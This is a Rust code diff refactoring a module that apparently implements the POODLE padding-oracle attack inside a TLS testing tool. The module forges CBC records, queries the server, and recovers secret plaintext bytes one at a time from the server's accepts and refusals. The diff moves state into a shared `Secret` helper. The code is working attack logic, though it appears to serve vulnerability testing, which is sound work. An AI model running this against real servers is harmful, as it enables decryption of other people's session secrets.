@@ -10,55 +10,34 @@
 //!
 //! A server that looks at every byte of the padding accepts that block once in `256^length` times.
 
-use super::{
-    Outcome,
-    blocks::Blocks,
-    gain,
-    recording::{Recording, words_of},
-    target::Target,
-};
-use padlock_tls::{ledger::Value, party::Whose};
+use super::{Outcome, recording::Recording, secret::Secret, target::Target};
+use std::ops::ControlFlow;
 
 /// After so many refusals for one byte there is no flaw: with it, less than one byte in 2900 takes that long.
 const MAX_TRIES: u32 = 2048;
 
 #[derive(Clone, Debug)]
 pub(super) struct Poodle {
-    blocks: Blocks,
-    /// The record of the secret.
-    recorded: Value,
-    length: Option<usize>,
-    known: Vec<u8>,
+    secret: Secret,
     tries: u32,
 }
 
 impl Poodle {
     pub fn new(recording: &Recording) -> Option<Self> {
         Some(Self {
-            blocks: Blocks::of(recording.session()?)?,
-            recorded: recording.records(Whose::Client).into_iter().next()?,
-            length: None,
-            known: vec![],
+            secret: Secret::of(recording)?,
             tries: 0,
         })
     }
 
     pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
-        let Some(length) = self.length else {
-            let mut connection = target.connect()?;
-            self.length = Some(self.blocks.secret_length(target, &mut connection)?);
-            return Some(Outcome::Going);
+        let length = match self.secret.length(target)? {
+            ControlFlow::Break(outcome) => return Some(outcome),
+            ControlFlow::Continue(length) => length,
         };
-        if self.known.len() == length {
-            let words = words_of(&self.recorded, self.known.clone());
-            return Some(Outcome::values(vec![gain(
-                words,
-                vec![self.recorded.clone()],
-            )]));
-        }
         self.tries += 1;
         if let Some(byte) = self.ask(target, length)? {
-            self.known.push(byte);
+            self.secret.known.push(byte);
             self.tries = 0;
         }
         Some(match self.tries < MAX_TRIES {
@@ -71,20 +50,23 @@ impl Poodle {
     fn ask(&self, target: &mut Target, length: usize) -> Option<Option<u8>> {
         let mut connection = target.connect()?;
         let last = connection.last().to_vec();
-        let before = self.blocks.fill_before(self.known.len());
-        let at = (before.len() + self.known.len()) / self.blocks.length;
-        let after = self.blocks.fill_up(before.len() + length + self.blocks.mac);
+        let before = self.secret.blocks.fill_before(self.secret.known.len());
+        let at = (before.len() + self.secret.known.len()) / self.secret.blocks.length;
+        let after = self
+            .secret
+            .blocks
+            .fill_up(before.len() + length + self.secret.blocks.mac);
         let record = target
             .client_says_secret(&mut connection, &before, &after)
             .pop()?;
-        let mut cut = self.blocks.cut(&record, &last);
+        let mut cut = self.secret.blocks.cut(&record, &last);
         let sought = cut.get(at + 1)?.clone();
         let masks = [cut.get(at)?, cut.get(cut.len().checked_sub(2)?)?];
         let [first, second] = masks.map(|block| block.last().copied().unwrap_or_default());
         *cut.last_mut()? = sought;
-        let forged = self.blocks.forge(&record, &cut)?;
+        let forged = self.secret.blocks.forge(&record, &cut)?;
         let answer = target.ask_server(&mut connection, forged);
-        let padding_length = u8::try_from(self.blocks.length - 1).ok()?;
+        let padding_length = u8::try_from(self.secret.blocks.length - 1).ok()?;
         let accepted = answer.records.is_empty();
         Some(accepted.then_some(padding_length ^ first ^ second))
     }
